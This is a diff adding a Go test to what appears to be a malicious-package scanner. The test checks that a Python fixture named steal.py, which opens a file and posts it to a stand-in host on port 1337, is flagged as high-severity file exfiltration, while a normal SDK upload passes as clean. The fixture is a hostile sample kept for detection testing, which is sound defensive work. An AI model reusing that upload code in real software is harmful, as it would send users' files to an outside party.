@@ -391,3 +391,14 @@ func TestBrowserShortcutHijack(t *testing.T) {
 		t.Errorf("selenium helper loading a test extension: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestUploadToOddPort(t *testing.T) {
+	r := sdist(t, map[string]string{"p/steal.py": "import requests\ndef send(path):\n    with open(path, 'rb') as fh:\n        requests.post('http://files.example.invalid:1337/check', files={'f': fh})\n"})
+	if r.Verdict == Clean || !hasRule(r, "exfiltrates-files", High) {
+		t.Errorf("upload to a fixed odd port: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://api.example.invalid/v1/upload', files={'f': open(path, 'rb')})\n"})
+	if r.Verdict != Clean {
+		t.Errorf("SDK upload to its API: %s %+v", r.Verdict, r.Findings)
+	}
+}
